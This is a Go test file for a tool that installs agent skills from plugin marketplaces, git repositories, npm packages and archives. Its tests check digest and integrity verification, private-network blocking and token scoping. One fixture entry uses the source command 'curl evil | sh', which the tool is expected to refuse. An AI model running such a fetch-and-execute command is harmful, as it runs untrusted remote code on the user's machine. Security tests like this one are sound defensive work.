package distcmd

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/knack-dev/knack/internal/base/console"
	"github.com/knack-dev/knack/internal/cli/command"
	"github.com/knack-dev/knack/internal/distribution/lockfile"
	"github.com/knack-dev/knack/internal/test/testwait"
)

// market is a server with repositories, an npm registry and an archive, and a repository with a
// marketplace.
type market struct {
	*shell
	url      string
	packages map[string][]byte // archives of the package @acme/docs, by version
	archive  []byte            // served at /sums.tgz
	forged   bool              // the registry sends bytes that do not match their digest
	token    string            // the token that the registry requires, or ""
	asked    atomic.Int64      // requests to all servers
}

func skillText(name, text string) string {
	return "---\nname: " + name + "\ndescription: Does " + name + " for you.\n---\n" + text + "\n"
}

// packed returns a .tgz archive of files.
func packed(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range files {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text)), Format: tar.FormatUSTAR}); err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write([]byte(text))
	}
	_, _ = w.Close(), z.Close()
	return b.Bytes()
}

func newMarket(t *testing.T) *market {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip(err)
	}
	m := &market{shell: newShell(t), packages: map[string][]byte{}}
	path, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Skip(err)
	}
	repositories := filepath.Join(m.dir, "git")
	backend := &cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(path)), "git-http-backend"), Root: "/git",
		Env: []string{"GIT_PROJECT_ROOT=" + repositories, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=2",
			"GIT_CONFIG_KEY_0=uploadpack.allowAnySHA1InWant", "GIT_CONFIG_VALUE_0=true", "GIT_CONFIG_KEY_1=uploadpack.allowFilter", "GIT_CONFIG_VALUE_1=true"}}
	mux := http.NewServeMux()
	mux.Handle("/git/", backend)
	mux.HandleFunc("/npm/", func(w http.ResponseWriter, r *http.Request) {
		if m.token != "" && r.Header.Get("Authorization") != "Bearer "+m.token {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		name := strings.TrimPrefix(r.URL.EscapedPath(), "/npm/")
		if v, ok := strings.CutPrefix(name, "tarballs/"); ok {
			data := m.packages[v]
			if m.forged {
				data = append(bytes.Clone(data), 0)
			}
			_, _ = w.Write(data)
			return
		}
		if !strings.EqualFold(name, "@acme%2fdocs") {
			http.NotFound(w, r)
			return
		}
		type dist struct {
			Tarball   string `json:"tarball"`
			Integrity string `json:"integrity"`
		}
		type version struct {
			Dist dist `json:"dist"`
		}
		versions, latest := map[string]version{}, ""
		for v, data := range m.packages {
			sum := sha512.Sum512(data)
			versions[v] = version{dist{m.url + "/npm/tarballs/" + v, "sha512-" + base64.StdEncoding.EncodeToString(sum[:])}}
			latest = max(latest, v)
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"name": "@acme/docs", "dist-tags": map[string]string{"latest": latest}, "versions": versions})
	})
	mux.HandleFunc("/sums.tgz", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(m.archive) })
	counted := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		m.asked.Add(1)
		mux.ServeHTTP(w, r)
	})
	server, github := httptest.NewServer(counted), httptest.NewTLSServer(counted)
	t.Cleanup(server.Close)
	t.Cleanup(github.Close)
	m.url = server.URL
	m.vars["npm_config_registry"] = server.URL + "/npm"
	m.put("github.pem", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: github.Certificate().Raw})))
	m.more = []string{
		"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=url." + github.URL + "/git/.insteadOf", "GIT_CONFIG_VALUE_0=https://github.com/",
		"GIT_SSL_CAINFO=" + filepath.Join(m.dir, "github.pem"),
	}
	return m
}

// repository commits files to a repository and returns the commit.
func (m *market) repository(name string, files map[string]string) (commit string) {
	m.t.Helper()
	at := filepath.Join(m.dir, "git", name)
	if err := os.MkdirAll(at, 0o755); err != nil {
		m.t.Fatal(err)
	}
	for file, text := range files {
		m.put(filepath.Join("git", name, file), text)
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "-A"}, {"-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "x"}} {
		if out, err := exec.Command("git", append([]string{"-C", at}, args...)...).CombinedOutput(); err != nil {
			m.t.Fatalf("%v: %s", err, out)
		}
	}
	out, err := exec.Command("git", "-C", at, "rev-parse", "HEAD").Output()
	if err != nil {
		m.t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

func (m *market) entry(key string) lockfile.Skill {
	m.t.Helper()
	data, err := os.ReadFile(filepath.Join(m.dir, "p", lockfile.Name))
	if err != nil {
		m.t.Fatal(err)
	}
	lock, err := lockfile.Parse(data)
	if err != nil {
		m.t.Fatal(err)
	}
	return lock.Skills[".agents/skills/"+key]
}

// want runs a command, checks its status, and checks that its output contains a text.
func (m *market) want(status int, has string, args ...string) string {
	m.t.Helper()
	out, errs, got := m.run(args...)
	if got != status || !strings.Contains(out+errs, has) {
		m.t.Errorf("%s: status %d, without %q:\n%s%s", args, got, has, out, errs)
	}
	return out + errs
}

// TestMarketplaces checks that add installs skills of plugins through a marketplace. The plugins
// are a folder of the marketplace, a GitHub repository, another repository, a subfolder at a
// commit, an npm package, an archive with a digest, and a skill that the entry lists. A second
// marketplace is itself on GitHub. Without a network, sync restores all skills and verify accepts
// them. Later they are updated.
func TestMarketplaces(t *testing.T) {
	testwait.Slow(t)
	m := newMarket(t)
	m.repository("tools", map[string]string{"skills/lint/SKILL.md": skillText("lint", "one"), "plugin.json": "{}"})
	m.repository("acme/team", map[string]string{"skills/draft/SKILL.md": skillText("draft", "one")})
	pinned := m.repository("mono", map[string]string{"p/docs/skills/pdf/SKILL.md": skillText("pdf", "one"), "p/other/skills/no/SKILL.md": skillText("no", "")})
	m.packages["1.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "one"), "package/package.json": "{}"})
	m.archive = packed(t, map[string]string{"x/skills/sum/SKILL.md": skillText("sum", "one")})
	digest := fmt.Sprintf("%x", sha256.Sum256(m.archive))
	list := `{"name": "acme", "owner": {"name": "Acme"}, "plugins": [
		{"name": "ops", "source": "./plugins/ops", "description": "Runs things."},
		{"name": "tools", "source": {"source": "url", "url": "URL/git/tools", "ref": "main"}},
		{"name": "docs", "source": {"source": "git-subdir", "url": "URL/git/mono", "path": "p/docs", "sha": "SHA"}},
		{"name": "team", "source": {"source": "github", "repo": "acme/team"}},
		{"name": "office", "source": {"source": "npm", "package": "@acme/docs"}},
		{"name": "fixed", "source": {"source": "npm", "package": "@acme/docs", "version": "1.0.0"}},
		{"name": "maths", "source": {"source": "archive", "url": "URL/sums.tgz", "sha256": "DIGEST"}},
		{"name": "forged", "source": {"source": "archive", "url": "URL/sums.tgz", "sha256": "0000000000000000000000000000000000000000000000000000000000000000"}},
		{"name": "chosen", "source": "./", "skills": ["./more/chart"], "strict": false},
		{"name": "shell", "source": {"source": "command", "command": "curl evil | sh"}},
		{"name": "inside", "source": {"source": "url", "url": "https://127.0.0.1:1/x.git"}}
	]}`
	list = strings.NewReplacer("URL", m.url, "SHA", pinned, "DIGEST", digest).Replace(list)
	m.repository("plugins", map[string]string{
		".claude-plugin/marketplace.json": list, "plugins/ops/skills/deploy/SKILL.md": skillText("deploy", "one"),
		"more/chart/SKILL.md": skillText("chart", "one"), "more/left/SKILL.md": skillText("left", ""),
	})
	from := "git+" + m.url + "/git/plugins"
	shared := m.repository("acme/shared", map[string]string{"skills/plan/SKILL.md": skillText("plan", "one")})
	m.repository("acme/market", map[string]string{
		".claude-plugin/marketplace.json": `{"name": "hub", "owner": {"name": "Acme"}, "plugins": [
			{"name": "own", "source": "./own"},
			{"name": "moving", "source": {"source": "github", "repo": "acme/shared", "ref": "main"}},
			{"name": "fixed", "source": {"source": "github", "repo": "acme/shared", "sha": "` + shared + `"}}
		]}`,
		"own/skills/read/SKILL.md": skillText("read", "one"),
	})

	// List the source without installing anything.
	var printed, warned bytes.Buffer
	env := console.Env{Stdout: &printed, Stderr: &warned, Getenv: func(name string) string { return m.vars[name] }, Environ: append(os.Environ(), m.more...), Dir: filepath.Join(m.dir, "p"), Home: filepath.Join(m.dir, "home")}
	r, err := ListSource(t.Context(), &env, "", from)
	if code := command.FailureIn(err); r == nil || code == nil || code.Code != command.No {
		t.Fatalf("list: %v", err)
	}
	r.Print(&env)
	wanted := strings.NewReplacer("URL", m.url, "SHA", pinned, "PRIVATE", "127.0.0.1:1/x.git").Replace(`ops (./plugins/ops)
  ops:deploy  Does deploy for you.
tools (git+URL/git/tools@main)
  tools:lint  Does lint for you.
docs (git+URL/git/mono//p/docs@SHA)
  docs:pdf  Does pdf for you.
team (github.com/acme/team)
  team:draft  Does draft for you.
office (npm:@acme/docs)
  office:sheet  Does sheet for you.
fixed (npm:@acme/docs@1.0.0)
  fixed:sheet  Does sheet for you.
maths (URL/sums.tgz)
  maths:sum  Does sum for you.
forged (URL/sums.tgz)
chosen (./)
  chosen:chart  Does chart for you.
shell
inside (PRIVATE)
in no plugin
  left  Does left for you.
git+URL/git/plugins has 9 skills in 11 plugins
`)
	if printed.String() != wanted {
		t.Errorf("list: %s", cmp.Diff(wanted, printed.String()))
	}
	for _, text := range []string{"forged: ", "shell: the source runs a program", "inside: "} {
		if !strings.Contains(warned.String(), text) {
			t.Errorf("list does not warn of %s:\n%s", text, warned.String())
		}
	}
	if _, err := os.Stat(filepath.Join(m.dir, "p", lockfile.Name)); err == nil {
		t.Error("list wrote a lock")
	}
	for _, c := range []struct {
		from, ask, key, source, want, path string
		pinned                             bool
	}{
		{from, "ops:deploy", "deploy", from, "", "plugins/ops/skills/deploy", false},
		{from, "tools:lint", "lint", "git+" + m.url + "/git/tools", "main", "skills/lint", false},
		{from, "docs:pdf", "pdf", "git+" + m.url + "/git/mono", pinned, "p/docs/skills/pdf", true},
		{from, "team:draft", "draft", "github.com/acme/team", "", "skills/draft", false},
		{from, "office:sheet", "sheet", "npm:@acme/docs", "", "package/skills/sheet", false},
		{from, "maths:sum", "sum", m.url + "/sums.tgz", "", "x/skills/sum", true},
		{from, "chosen:chart", "chart", from, "", "more/chart", false},
		{"acme/market", "own:read", "read", "github.com/acme/market", "", "own/skills/read", false},
		{"https://github.com/acme/market", "moving:plan", "plan", "github.com/acme/shared", "main", "skills/plan", false},
	} {
		m.want(0, "added "+c.key, "add", c.from, "--skill", c.ask)
		if e := m.entry(c.key); e.Source != c.source || e.Want != c.want || e.Path != c.path || e.Pinned != c.pinned {
			t.Errorf("%s is locked as %s %s in %s, pinned %v", c.ask, e.Source, e.Want, e.Path, e.Pinned)
		}
	}
	if e := m.entry("sheet"); !strings.HasPrefix(e.Revision, "npm:sha512-") || e.Version != "1.0.0" {
		t.Errorf("the package is locked at %s %s", e.Revision, e.Version)
	}

	// Add refuses these.
	m.want(1, "runs a program", "add", from, "--skill", "shell:x")
	m.want(1, "does not have the digest that the marketplace names", "add", from, "--skill", "forged:sum")
	m.want(3, "private network", "add", from, "--skill", "inside:x")
	m.want(1, "did you mean docs:pdf?", "add", from, "--skill", "docs:pfd")
	m.want(1, "there is no skill 'nope:pdf'", "add", from, "--skill", "nope:pdf")
	m.want(1, "has no skill 'left'", "add", from, "--skill", "tools:left")
	m.want(1, "there is no skill 'chosen:left'", "add", from, "--skill", "chosen:left")

	m.repository("empty", map[string]string{".claude-plugin/marketplace.json": strings.ReplaceAll(`{"name": "empty", "owner": {"name": "Acme"}, "plugins": [{"name": "tools", "source": {"source": "url", "url": "URL/git/tools"}}]}`, "URL", m.url)})
	m.want(1, "has no skill itself; it lists 1 plugin: tools (git+"+m.url+"/git/tools)", "add", "git+"+m.url+"/git/empty")
	m.want(0, "9 plugins of "+from+" are elsewhere: tools (git+"+m.url+"/git/tools@main), docs (", "add", from, "--all", "--dry-run")

	// Sync restores the skills offline, and verify accepts them.
	if err := os.RemoveAll(filepath.Join(m.dir, "p", ".agents")); err != nil {
		t.Fatal(err)
	}
	before := m.asked.Load()
	m.want(0, "restored", "sync", "--offline")
	m.want(0, "9 skills as locked", "verify")
	m.want(0, "9 skills as locked", "verify", "--offline")
	if n := m.asked.Load() - before; n != 0 {
		t.Errorf("offline, servers were asked %d times", n)
	}

	// After changes in the sources, update changes each skill whose source changed, except the
	// pinned one.
	m.repository("tools", map[string]string{"skills/lint/SKILL.md": skillText("lint", "two")})
	m.repository("mono", map[string]string{"p/docs/skills/pdf/SKILL.md": skillText("pdf", "two")})
	m.repository("plugins", map[string]string{"plugins/ops/skills/deploy/SKILL.md": skillText("deploy", "two")})
	m.repository("acme/team", map[string]string{"skills/draft/SKILL.md": skillText("draft", "two")})
	m.repository("acme/shared", map[string]string{"skills/plan/SKILL.md": skillText("plan", "two")})
	m.repository("acme/market", map[string]string{"own/skills/read/SKILL.md": skillText("read", "two")})
	m.packages["1.1.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "two")})
	m.want(0, "updated sheet 1.0.0 to 1.1.0", "update")
	for key, text := range map[string]string{"lint": "two", "pdf": "one", "deploy": "two", "sheet": "two", "sum": "one", "chart": "one", "draft": "two", "plan": "two", "read": "two"} {
		data, err := os.ReadFile(filepath.Join(m.dir, "p", ".agents", "skills", key, "SKILL.md"))
		if err != nil || !strings.Contains(string(data), "\n"+text+"\n") {
			t.Errorf("%s: %q, %v", key, data, err)
		}
	}
	m.want(0, "9 skills as locked", "verify")
	m.want(0, "removed sheet", "remove", "sheet")
	m.want(0, "added sheet 1.0.0", "add", from, "--skill", "fixed:sheet")
	m.want(0, "removed plan", "remove", "plan")
	m.want(0, "added plan", "add", "acme/market", "--skill", "fixed:plan")
	if e := m.entry("plan"); !e.Pinned || e.Want != shared || e.Revision != "git:"+shared {
		t.Errorf("fixed:plan is locked at %s %s, pinned %v", e.Want, e.Revision, e.Pinned)
	}
	m.want(0, "pinned", "update")
}

// TestNPM checks that add installs a skill of a package with the configuration of npm. The registry
// of the scope, a token and a tag are used. Bytes with another digest than in the registry are
// refused.
func TestNPM(t *testing.T) {
	testwait.Slow(t)
	m := newMarket(t)
	m.packages["1.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "one")})
	m.packages["2.0.0"] = packed(t, map[string]string{"package/skills/sheet/SKILL.md": skillText("sheet", "two")})
	m.want(0, "added sheet 1.0.0 from npm:@acme/docs", "add", "npm:@acme/docs@1.0.0")
	m.want(0, "1 skill up to date", "update")
	m.want(0, "updated sheet 1.0.0 to 2.0.0", "update", "--latest")
	m.want(3, "no version or tag 'next'", "add", "npm:@acme/docs@next")
	m.want(3, "has no such package", "add", "npm:@acme/none")
	m.want(2, "neither a version nor a tag", "add", "npm:@acme/docs@^1.0")
	m.want(3, "offline", "add", "npm:@acme/docs", "--offline")
	m.forged = true
	m.want(3, "does not have the integrity", "add", "npm:@acme/docs@1.0.0")
	m.forged, m.token = false, "t0ken"
	m.want(3, "refuses access (401)", "add", "npm:@acme/docs@1.0.0")
	delete(m.vars, "npm_config_registry")
	m.vars["TOKEN"] = m.token
	host := strings.TrimPrefix(m.url, "http:")
	m.put("home/.npmrc", "registry=https://127.0.0.1:1/\n@acme:registry="+m.url+"/npm\n"+host+"/npm/:_authToken=${TOKEN}\n")
	m.want(0, "replaced sheet 2.0.0 to 1.0.0", "add", "npm:@acme/docs@1.0.0", "--allow-downgrade")
	// The token is sent only to the address of its registry, and an .npmrc in the project has no
	// effect.
	m.put("home/.npmrc", "@acme:registry="+m.url+"/npm\n"+host+"/other/:_authToken=${TOKEN}\n")
	m.put("p/.npmrc", host+"/npm/:_authToken=${TOKEN}\n")
	m.want(3, "refuses access (401)", "add", "npm:@acme/docs@2.0.0")
	m.token = ""
	m.want(0, "from npm:"+m.url+"/npm//@acme/docs", "add", "npm:"+m.url+"/npm//@acme/docs")
}
